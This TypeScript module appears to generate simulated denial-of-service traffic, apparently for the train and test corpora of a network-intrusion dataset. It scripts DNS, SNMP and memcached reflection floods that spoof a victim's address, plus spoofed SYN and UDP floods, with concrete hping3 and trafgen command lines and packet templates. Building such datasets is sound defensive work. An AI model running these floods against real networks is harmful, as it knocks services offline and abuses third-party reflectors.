import { writeFileSync } from 'node:fs'
import path from 'node:path'
import { between, during, pick } from '../scene.ts'
import type { Attack, AttackScene } from '../scene.ts'
import { BOUNDS, busyPort, secondsLeft, volume } from './floods-direct.ts'
import { startReflectors } from './reflectors.ts'
import type { Protocol, Reflectors } from './reflectors.ts'
import { deviceOf, folderOf, packetsSent, routerOf, runTool, script } from './run-tool.ts'
import { PEERS_MAX, manyStrangers, publishedServer } from './targets.ts'

/** Sends the questions with the victim's address as their source. */
type Ask = (scene: AttackScene, asking: Asking) => Promise<void>

interface Asking extends Reflectors {
  readonly victim: string
  /** Questions a second, all reflectors together, and questions in all. */
  readonly rate: number
  readonly count: number
}

/** Whoever is to suffer: a published server, or a client, whose tunnel address is routed. */
function victimOf(scene: AttackScene): string {
  const { random, world } = scene
  const clients = world.benign.length > 0 ? world.benign : world.clients
  if (random.uniform() < 0.5 && clients.length > 0) return pick(random, clients).address
  return publishedServer(random, pick(random, ['jump', 'www', 'mail']))
}

async function reflect(scene: AttackScene, protocol: Protocol, ask: Ask): Promise<void> {
  const reflectors = await startReflectors(scene, protocol)
  const victim = victimOf(scene)
  const most = protocol === 'memcached' ? 120 : 900
  const { rate, count } = volume(scene, secondsLeft(scene) - 4, [protocol === 'memcached' ? 30 : 120, most])
  const before = packetsSent(reflectors.machine)
  const tool = `${protocol} reflected by ${reflectors.addresses.length} at ${rate} questions/s`
  await during(scene, { role: 'victim', address: victim, peers: reflectors.addresses, category: 'flood', tool }, () => (
    ask(scene, { ...reflectors, victim, rate, count })))
  const answers = packetsSent(reflectors.machine) - before
  if (answers < count * reflectors.packetsPerAnswer / 4) throw new Error(`${tool}: only ${answers} answers to ${count} questions`)
}

async function askByHping(scene: AttackScene, { addresses, port, question, victim, rate, count }: Asking): Promise<void> {
  const file = path.join(folderOf(scene), 'question')
  const gapUs = Math.ceil(1_000_000 * addresses.length / rate)
  const each = Math.ceil(count / addresses.length)
  // hping3 reads on in its file for every packet.
  writeFileSync(file, Buffer.concat(Array.from({ length: each }, () => question)))
  await Promise.all(addresses.map((address) => runTool(scene, {
    command: ['hping3', '-n', '-q', '-2', '-a', victim, '-s', String(between(scene.random, 1_024, 60_000)), '-p', String(port), '-d',
      String(question.length), '-E', file, '-i', `u${gapUs}`, '-c', String(each), address],
    exitCodes: [0, 1], packetsMin: Math.floor(each / 4),
  })))
}

async function askByTrafgen(scene: AttackScene, { addresses, port, question, victim, rate, count }: Asking): Promise<void> {
  const octets = [...question].map((each) => `0x${each.toString(16)}`).join(', ')
  const packets = addresses.map((address) => `ipv4(sa=${victim}, da=${address}, ttl=${between(scene.random, 40, 64)}), `
    + `udp(sp=${between(scene.random, 1_024, 60_000)}, dp=${port}), ${octets}`)
  await trafgen(scene, packets, { rate, count })
}

/** Whole frames; round and round through the packets of its file. */
async function trafgen(scene: AttackScene, packets: readonly string[], { rate, count }: { rate: number; count: number }): Promise<void> {
  const file = path.join(folderOf(scene), 'packets')
  const ethernet = `eth(da=${await routerOf(scene)})`
  writeFileSync(file, packets.map((each) => `{ ${ethernet}, ${each} }\n`).join(''))
  await runTool(scene, {
    command: ['trafgen', '-o', deviceOf(scene.actor), '-c', file, '-n', String(count), '-b', `${rate}pps`, '-P', '1'],
    packetsMin: Math.floor(count / 8),
  })
}

async function askByPython(scene: AttackScene, { addresses, port, question, victim, rate, count }: Asking): Promise<void> {
  await runTool(scene, {
    command: ['/usr/bin/python3', script('ask-as.py'), victim, String(port), question.toString('hex'), String(rate), String(count),
      ...addresses],
    packetsMin: Math.floor(count / 4), says: /^asked \d+/m,
  })
}

const TCP_SYN = 'tcp(sp=drnd(), dp=PORT, seq=drnd(), win=64240, syn)'

/** Many strangers at once: too many to name them all, or just few enough. */
async function spoofed(scene: AttackScene, protocol: 'syn' | 'udp'): Promise<void> {
  const { random } = scene
  const [victim, port] = busyPort(scene)
  const strangers = manyStrangers(random, pick(random, [between(random, 20, PEERS_MAX), 250]))
  const { rate, count } = volume(scene, secondsLeft(scene) - 3, [500, 2_500])
  const datagram = `udp(sp=drnd(), dp=drnd()), fill(0x41, ${between(random, 20, 900)})`
  const inner = protocol === 'syn' ? TCP_SYN.replace('PORT', String(port)) : datagram
  const packets = strangers.map((each) => `ipv4(sa=${each}, da=${victim}, ttl=${between(random, 40, 64)}), ${inner}`)
  const peers = strangers.length <= PEERS_MAX ? { peers: strangers } : {}
  const tool = `trafgen ${protocol} as ${strangers.length} strangers at ${rate}/s`
  await during(scene, { role: 'victim', address: victim, ...peers, category: 'flood', tool }, () => (
    trafgen(scene, packets, { rate, count })))
}

const TRAIN = { category: 'flood', corpora: ['train', 'test'], place: 'outside', isAlone: true, seconds: BOUNDS.seconds - 15 } as const
const TEST = { ...TRAIN, corpora: ['test'] } as const

/** Reflection through servers that answer anybody, and floods as a crowd of strangers. */
export const REFLECTED_FLOODS: readonly Attack[] = [
  { ...TRAIN, name: 'hping3-reflected-dns', tool: 'hping3', play: (scene) => reflect(scene, 'dns', askByHping) },
  { ...TRAIN, name: 'trafgen-reflected-snmp', tool: 'trafgen', play: (scene) => reflect(scene, 'snmp', askByTrafgen) },
  { ...TRAIN, name: 'trafgen-syn-spoofed', tool: 'trafgen', play: (scene) => spoofed(scene, 'syn') },
  { ...TRAIN, name: 'trafgen-udp-spoofed', tool: 'trafgen', play: (scene) => spoofed(scene, 'udp') },
  { ...TEST, name: 'python-reflected-memcached', tool: 'python', play: (scene) => reflect(scene, 'memcached', askByPython) },
  { ...TEST, name: 'python-reflected-dns', tool: 'python', play: (scene) => reflect(scene, 'dns', askByPython) },
]
